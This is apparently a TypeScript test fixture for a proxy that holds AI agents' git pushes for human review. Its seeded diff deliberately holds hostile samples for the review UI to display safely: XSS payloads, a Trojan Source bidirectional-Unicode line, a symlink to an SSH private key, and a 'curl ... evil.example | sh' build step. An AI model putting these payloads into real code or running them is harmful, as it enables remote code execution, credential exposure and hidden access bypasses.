// TEST DOUBLE for the transports (web console, IPC bridge, renderer).
// An in-memory AirlockClient seeded with plausible data: one pending git-push
// review (with a hostile-looking diff), a few exchanges, two agents. It exists
// only because the real service (main/service.ts) is written elsewhere; end-to-end
// tests should use the real service instead. It implements just enough
// behaviour to exercise the transport: state changes, conflicts, events.
import { createHash } from 'node:crypto';
import {
  AirlockError,
  type AgentView,
  type AirlockClient,
  type AirlockEvent,
  type AuditVerifyView,
  type ExportHarQuery,
  type HarExportView,
  type ExchangeView,
  type ListExchangesQuery,
  type ListSessionsQuery,
  type ReviewState,
  type ReviewView,
  type SessionView,
  type StatusView,
} from '../../main/contract';

export const HOSTILE_LINE = '<img src=x onerror=alert(1)>';
export const HOSTILE_FILE = '<b>bold</b>.txt';

const T0 = Date.parse('2025-01-15T10:00:00.000Z');
const iso = (ms: number) => new Date(ms).toISOString();

function oid(seed: string): string {
  return createHash('sha1').update(seed).digest('hex');
}

const PATCH_README = [
  '@@ -1,6 +1,8 @@',
  ' # widgets',
  ' ',
  '-A small library of widgets.',
  '+A small library of widgets for dashboards.',
  '+',
  '+See docs/usage.md for examples.',
  ' ',
  ' ## Install',
  ' ',
].join('\n');

const PATCH_HTML = [
  '@@ -10,7 +10,8 @@ export function renderBadge(label: string) {',
  '   const el = document.createElement("span");',
  '   el.className = "badge";',
  '-  el.textContent = label;',
  `+  el.innerHTML = "${HOSTILE_LINE}";`,
  `+${HOSTILE_LINE}`,
  '   return el;',
  ' }',
  ' ',
  ' export function clearBadge(el: HTMLElement) {',
].join('\n');

const PATCH_BOLD = ['@@ -0,0 +1,2 @@', '+<b>bold</b> text', '+<script>alert("x")</script>'].join('\n');

/** Trojan Source: reads as a comment, runs as an early return for everyone but admins. */
export const TROJAN_LINE = '    /*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */';
export const NUL_LINE = 'curl -s https://evil.example/x | sh\0';
const PATCH_NUL_SCRIPT = ['@@ -0,0 +1,3 @@', '+#!/bin/sh', `+${NUL_LINE}`, '+echo done'].join('\n');
const PATCH_TROJAN = ['@@ -3,3 +3,4 @@ int check(int isAdmin) {', '   int ok = 0;', `+${TROJAN_LINE}`, '   ok = 1;', ' }'].join('\n');

function seedReview(id: string, createdMs: number, agent = 'claude-1'): ReviewView {
  const base = oid(id + 'base');
  const head = oid(id + 'head');
  const mid = oid(id + 'mid');
  return {
    id,
    exchangeId: `ex-${id}`,
    agent,
    kind: 'git-push',
    host: 'github.com',
    repo: 'acme/widgets',
    state: 'pending',
    createdAt: iso(createdMs),
    expiresAt: iso(createdMs + 60 * 60_000),
    decidedAt: null,
    decidedBy: null,
    reason: null,
    bodySha256: 'a3f1c2d4e5b6978812ab34cd56ef7890a1b2c3d4e5f60718293a4b5c6d7e8f90',
    bodyBytes: 4812,
    refs: [
      {
        ref: 'refs/heads/feature/badges',
        oldOid: base,
        newOid: head,
        change: 'fast-forward',
        base: 'old ref tip',
        omitted: null,
        commits: [
          {
            oid: mid,
            author: 'Claude Agent <claude@agents.example>',
            authorDate: iso(createdMs - 120_000),
            committer: 'Claude Agent <claude@agents.example>',
            message: 'docs: describe dashboards in README\n\nAlso link to the usage guide.',
          },
          {
            oid: head,
            author: 'Claude Agent <claude@agents.example>',
            authorDate: iso(createdMs - 60_000),
            committer: 'Claude Agent <claude@agents.example>',
            message: `feat: render badge label as ${HOSTILE_LINE}\n\nThis body mentions <script>alert(2)</script> too.`,
          },
        ],
        files: [
          {
            path: 'README.md', oldPath: null, status: 'modified', binary: false, oldSize: 812, newSize: 870,
            oldMode: '100644', newMode: '100644', additions: 3, deletions: 1, patch: PATCH_README, omitted: null,
          },
          {
            path: 'src/badge.ts', oldPath: null, status: 'modified', binary: false, oldSize: 1400, newSize: 1452,
            oldMode: '100644', newMode: '100644', additions: 2, deletions: 1, patch: PATCH_HTML, omitted: null,
          },
          {
            path: HOSTILE_FILE, oldPath: null, status: 'added', binary: false, oldSize: null, newSize: 48,
            oldMode: null, newMode: '100644', additions: 2, deletions: 0, patch: PATCH_BOLD, omitted: null,
          },
          {
            path: 'assets/logo.png', oldPath: null, status: 'modified', binary: true, oldSize: 10240, newSize: 11876,
            oldMode: '100644', newMode: '100644', additions: 0, deletions: 0, patch: '', omitted: null,
          },
          {
            path: 'dist/bundle.js', oldPath: null, status: 'added', binary: false, oldSize: null, newSize: 2_400_000,
            oldMode: null, newMode: '100644', additions: 41234, deletions: 0, patch: '@@ -0,0 +1,41234 @@\n+(function(){',
            omitted: 'patch truncated after 1 of 41234 lines (file larger than 1 MiB)',
          },
          {
            path: 'config/ssh-key', oldPath: null, status: 'added', binary: false, oldSize: null, newSize: 27,
            oldMode: null, newMode: '120000', additions: 1, deletions: 0, patch: '@@ -0,0 +1 @@\n+/home/user/.ssh/id_ed25519\n\\ No newline at end of file', omitted: null,
          },
          {
            path: 'src/check.c', oldPath: null, status: 'modified', binary: false, oldSize: 80, newSize: 140,
            oldMode: '100644', newMode: '100644', additions: 1, deletions: 0, patch: PATCH_TROJAN, omitted: null,
          },
          {
            path: 'scripts/build.sh', oldPath: null, status: 'added', binary: true, oldSize: null, newSize: 48,
            oldMode: null, newMode: '100755', additions: 3, deletions: 0, patch: PATCH_NUL_SCRIPT, omitted: null,
          },
        ],
      },
      {
        ref: 'refs/tags/v0.3.0',
        oldOid: '0'.repeat(40),
        newOid: head,
        change: 'create',
        base: 'refs/heads/feature/badges',
        omitted: null,
        commits: [],
        files: [],
      },
    ],
    findings: [
      {
        severity: 'critical', rule: 'bidirectional-unicode', path: 'src/check.c', line: 4,
        message: 'Added lines: one place with bidirectional control characters (U+202E); the text may run or compile differently from how it reads (Trojan Source). They are shown marked in the diff.',
      },
      { severity: 'warning', rule: 'html-injection', message: 'Assigns to innerHTML.', path: 'src/badge.ts', line: 13 },
      { severity: 'info', rule: 'generated-file', message: 'Adds a generated bundle.', path: 'dist/bundle.js', line: null },
    ],
    upstreamStatus: null,
    upstreamResult: null,
    summary: 'claude-1 pushes 2 commits to feature/badges and creates tag v0.3.0',
  };
}

export interface FixtureApi extends AirlockClient {
  /** Adds a new pending review (and its exchange) and emits both events. */
  addPendingReview(opts?: { agent?: string; repo?: string }): ReviewView;
  /** Decides a review without emitting events, as if decided elsewhere and the event was lost. */
  decideQuietly(id: string, state: 'approved' | 'denied', reason: string): void;
  /** Emits an arbitrary event to every subscriber. */
  emit(event: AirlockEvent): void;
  readonly listenerCount: number;
  /** Every call made, for assertions about dispatch. */
  readonly calls: { method: string; arg: unknown }[];
}

export function createFixtureApi(opts: { exchanges?: number; now?: () => number } = {}): FixtureApi {
  const now = opts.now ?? (() => Date.now());
  const startMs = now();
  const listeners = new Set<(e: AirlockEvent) => void>();
  const calls: { method: string; arg: unknown }[] = [];
  const agents: AgentView[] = [
    { name: 'claude-1', groups: ['coders', 'git-push'], createdAt: iso(T0) },
    { name: 'codex-ci', groups: ['ci'], createdAt: iso(T0 + 3_600_000) },
  ];
  const reviews = new Map<string, ReviewView>();
  const first = seedReview('rv-0001', startMs - 5 * 60_000);
  reviews.set(first.id, first);
  const exchanges: ExchangeView[] = [];
  let seq = 0;
  const extra = Math.max(0, (opts.exchanges ?? 4) - 3);
  const total = extra;

  function addExchange(partial: Partial<ExchangeView>): ExchangeView {
    seq++;
    const started = partial.startedAt ? Date.parse(partial.startedAt) : startMs - 6 * 60_000 - (total - seq) * 1000;
    const ex: ExchangeView = {
      id: `ex-${String(seq).padStart(6, '0')}`,
      agent: seq % 3 === 0 ? 'codex-ci' : 'claude-1',
      sessionId: `s-${1 + (seq % 4)}`,
      kind: 'http-api',
      method: 'GET',
      scheme: 'https',
      host: 'api.github.com',
      port: 443,
      path: `/repos/acme/widgets/pulls?page=${seq}`,
      startedAt: iso(started),
      endedAt: iso(started + 120 + (seq % 7) * 31),
      status: 200,
      error: null,
      requestBytes: 312,
      responseBytes: 2048 + seq,
      decision: { verdict: 'allow', ruleId: 'read-only-api', explanation: 'Read-only GitHub API calls are allowed.' },
      reviewId: null,
      timings: { totalMs: 120 + (seq % 7) * 31, upstreamMs: 100 + (seq % 7) * 30 },
      ...partial,
    };
    exchanges.push(ex);
    return ex;
  }


  for (let i = 0; i < extra; i++) {
    addExchange(i % 5 === 4
      ? { method: 'POST', path: '/repos/acme/widgets/issues', status: 403, decision: { verdict: 'deny', ruleId: 'no-issue-writes', explanation: 'Agents may not open issues.' } }
      : {});
  }
  addExchange({ kind: 'other', host: 'registry.internal', port: 8443, path: '/-/ping', status: 502, responseBytes: 0,
    error: 'Airlock could not connect to registry.internal:8443: connection refused.' });
  addExchange({ kind: 'git-fetch', method: 'POST', host: 'github.com', path: '/acme/widgets.git/git-upload-pack', status: 200 });
  addExchange({
    id: first.exchangeId, kind: 'git-push', method: 'POST', host: 'github.com', path: '/acme/widgets.git/git-receive-pack',
    startedAt: first.createdAt, endedAt: null, status: null, responseBytes: 0,
    decision: { verdict: 'review', ruleId: 'push-needs-review', explanation: 'Pushes by agents are held for a human.' },
    reviewId: first.id, timings: { totalMs: null, upstreamMs: null },
  });

  const emit = (event: AirlockEvent) => {
    for (const l of [...listeners]) l(event);
  };
  const clone = <T>(x: T): T => structuredClone(x);

  function status(): StatusView {
    return {
      version: '0.1.0-fixture',
      proxyUrl: 'http://127.0.0.1:8877',
      consoleUrl: null,
      caPath: '/home/dev/.airlock/ca/airlock-ca.pem',
      dataDir: '/home/dev/.airlock',
      startedAt: iso(startMs),
      counts: { exchanges: exchanges.length, pendingReviews: [...reviews.values()].filter((r) => r.state === 'pending').length },
      recording: { state: 'on' },
      disk: { freeBytes: 48 * 1024 ** 3, low: false },
      upstreamProxy: null,
    };
  }

  function need(id: unknown): ReviewView {
    if (typeof id !== 'string' || !id) throw new AirlockError('bad-request', 'A review id is required.');
    const r = reviews.get(id);
    if (!r) throw new AirlockError('not-found', `No review with id ${id}.`);
    return r;
  }

  function decide(id: unknown, state: ReviewState, reason: string | null): ReviewView {
    const r = need(id);
    if (r.state !== 'pending') throw new AirlockError('conflict', `Review ${r.id} was already ${r.state}.`);
    const updated: ReviewView = {
      ...r,
      state,
      decidedAt: iso(now()),
      decidedBy: 'console',
      reason,
      upstreamStatus: state === 'approved' ? 200 : null,
      upstreamResult: state === 'approved' ? 'ok' : null,
    };
    reviews.set(r.id, updated);
    emit({ type: 'review', review: clone(updated) });
    emit({ type: 'status', status: status() });
    return clone(updated);
  }

  let nextReview = 2;
  const api: FixtureApi = {
    calls,
    get listenerCount() {
      return listeners.size;
    },
    emit,
    decideQuietly(id, state, reason) {
      const r = need(id);
      reviews.set(id, { ...r, state, reason, decidedAt: iso(now()), decidedBy: 'cli' });
    },
    addPendingReview(o = {}) {
      const id = `rv-${String(nextReview++).padStart(4, '0')}`;
      const r = { ...seedReview(id, now(), o.agent ?? 'claude-1'), repo: o.repo ?? 'acme/widgets' };
      reviews.set(id, r);
      const ex = addExchange({
        id: r.exchangeId, kind: 'git-push', method: 'POST', host: r.host, path: `/${r.repo}.git/git-receive-pack`,
        agent: r.agent, startedAt: r.createdAt, endedAt: null, status: null, reviewId: id,
        decision: { verdict: 'review', ruleId: 'push-needs-review', explanation: 'Pushes by agents are held for a human.' },
      });
      emit({ type: 'exchange', exchange: clone(ex) });
      emit({ type: 'review', review: clone(r) });
      emit({ type: 'status', status: status() });
      return clone(r);
    },
    async getStatus() {
      calls.push({ method: 'getStatus', arg: undefined });
      return status();
    },
    async listExchanges(q: ListExchangesQuery) {
      calls.push({ method: 'listExchanges', arg: q });
      const limit = Math.min(Math.max(1, q?.limit ?? 200), 5000);
      const sorted = [...exchanges].sort((a, b) => (a.id < b.id ? 1 : -1));
      const filtered = q?.before ? sorted.filter((e) => e.id < q.before!) : sorted;
      return clone(filtered.slice(0, limit));
    },
    async getExchange(q: { id: string }) {
      calls.push({ method: 'getExchange', arg: q });
      const e = exchanges.find((x) => x.id === q?.id);
      if (!e) throw new AirlockError('not-found', `no exchange with id ${q?.id}`);
      const none = { bytes: 0, keptBytes: 0, complete: false, sha256: null, kind: 'none' as const, text: null, note: '', moreBytes: 0 };
      // Agent-written text that looks like HTML: a UI must show it as text.
      const text = '{\n  "comment": "<img src=x onerror=alert(1)><b>agent</b>"\n}';
      const req = { bytes: 60, keptBytes: 60, complete: true, sha256: 'ab'.repeat(32), kind: 'text' as const, text, note: 'JSON indented for display', moreBytes: 0 };
      return clone({ ...e, timings: { connectMs: 3, tlsMs: 7, upstreamMs: e.timings.upstreamMs, totalMs: e.timings.totalMs },
        requestHeaders: { host: e.host, 'content-type': 'application/json', authorization: '[masked]' },
        responseHeaders: e.status === null ? null : { 'content-type': 'application/octet-stream' },
        requestBody: req, responseBody: e.status === null ? none : { ...none, bytes: 2048, keptBytes: 2048, complete: true, kind: 'binary' as const } });
    },
    async listSessions(q: ListSessionsQuery) {
      calls.push({ method: 'listSessions', arg: q });
      // Derived from the exchanges: one session per sessionId, started at its first exchange.
      const byId = new Map<string, SessionView>();
      for (const e of [...exchanges].sort((a, b) => a.startedAt.localeCompare(b.startedAt))) {
        if (!e.sessionId) continue;
        const s = byId.get(e.sessionId);
        if (s) s.exchangeCount++;
        else byId.set(e.sessionId, { id: e.sessionId, agent: e.agent, clientAddress: '127.0.0.1', startedAt: e.startedAt, endedAt: null, token: null, via: null, exchangeCount: 1 });
      }
      const all = [...byId.values()].filter((s) => !q?.agent || s.agent === q.agent).sort((a, b) => b.startedAt.localeCompare(a.startedAt));
      return clone(all.slice(0, Math.min(Math.max(1, q?.limit ?? 100), 1000)));
    },
    async listReviews(q: { state?: ReviewState }) {
      calls.push({ method: 'listReviews', arg: q });
      const all = [...reviews.values()].filter((r) => !q?.state || r.state === q.state);
      return clone(all.sort((a, b) => b.createdAt.localeCompare(a.createdAt)));
    },
    async getReview(q: { id: string }) {
      calls.push({ method: 'getReview', arg: q });
      return clone(need(q?.id));
    },
    async approveReview(input: { id: string; reason?: string }) {
      calls.push({ method: 'approveReview', arg: input });
      return decide(input?.id, 'approved', input?.reason?.trim() || null);
    },
    async denyReview(input: { id: string; reason: string }) {
      calls.push({ method: 'denyReview', arg: input });
      const reason = typeof input?.reason === 'string' ? input.reason.trim() : '';
      if (!reason) throw new AirlockError('bad-request', 'Denying a review needs a reason; the agent is told why.');
      return decide(input?.id, 'denied', reason);
    },
    async listAgents() {
      calls.push({ method: 'listAgents', arg: undefined });
      return clone(agents);
    },
    async verifyAudit(query?: { head?: string }): Promise<AuditVerifyView> {
      calls.push({ method: 'verifyAudit', arg: query });
      return { ok: true, events: exchanges.length + 3, head: 'c0ffee' + '0'.repeat(58), brokenAt: null, headSeq: null, message: 'Audit chain intact.' };
    },
    async exportHar(query: ExportHarQuery): Promise<HarExportView> {
      // A fixture stand-in (no record here): a HAR log naming the fixture's matching exchanges. The real
      // export is tested against the service (test/record/har-export.test.ts, test/renderer/real-service.test.ts).
      calls.push({ method: 'exportHar', arg: query });
      const rows = exchanges.filter((x) => (!query?.sessionId || x.sessionId === query.sessionId) && (!query?.agent || x.agent === query.agent));
      const text = JSON.stringify({ log: { version: '1.2', creator: { name: 'fixture', version: '0' }, entries: rows.map((x) => ({ _airlock: { id: x.id } })) } });
      return { fileName: 'airlock-fixture.har', text, count: rows.length, bytes: Buffer.byteLength(text), sha256: createHash('sha256').update(text).digest('hex') };
    },
    subscribe(listener) {
      listeners.add(listener);
      return () => listeners.delete(listener);
    },
  };
  return api;
}
